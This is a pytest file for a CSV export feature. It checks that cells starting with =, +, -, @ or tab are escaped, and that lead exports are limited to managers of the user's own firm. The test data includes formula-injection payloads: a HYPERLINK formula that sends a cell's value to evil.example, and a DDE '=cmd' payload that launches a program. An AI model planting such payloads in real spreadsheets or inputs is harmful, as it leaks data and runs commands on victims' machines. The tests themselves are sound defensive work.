"""CSV exports neutralise what a spreadsheet would run as a formula."""

from __future__ import annotations

import csv
import io

import pytest

from steadfast.csvexport import neutralise


@pytest.mark.parametrize(
    ("typed", "written"),
    [
        (
            '=HYPERLINK("http://evil.example/?"&A1,"Click")',
            '\'=HYPERLINK("http://evil.example/?"&A1,"Click")',
        ),
        ("+1 312 555 0142", "'+1 312 555 0142"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("Jane", "Jane"),
        ("a=b", "a=b"),
        (None, ""),
        (42, 42),  # numbers the code computed stay numbers
        (-45.5, -45.5),
    ],
)
def test_it_neutralises_cells_a_spreadsheet_would_evaluate(typed, written):
    assert neutralise(typed) == written


def test_the_lead_export_neutralises_what_a_lead_typed_and_keeps_it_stored(as_user, alice, capture):
    lead = capture(first_name="=cmd|' /C calc'!A0", last_name="@Doe", phone="3125550142")

    response = as_user(alice).get("/leads/export.csv")

    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert [(r["id"], r["first_name"], r["last_name"]) for r in rows] == [
        (str(lead.pk), "'=cmd|' /C calc'!A0", "'@Doe")
    ]
    assert rows[0]["phone"] == "'+13125550142"
    lead.refresh_from_db()
    assert lead.first_name == "=cmd|' /C calc'!A0"


def test_the_export_is_for_managers_and_only_of_the_own_firm(as_user, bob, charlie, capture):
    capture(first_name="Jane", phone="3125550142")

    assert as_user(bob).get("/leads/export.csv").status_code == 403
    harbor = as_user(charlie).get("/leads/export.csv")
    assert "Jane" not in harbor.content.decode()
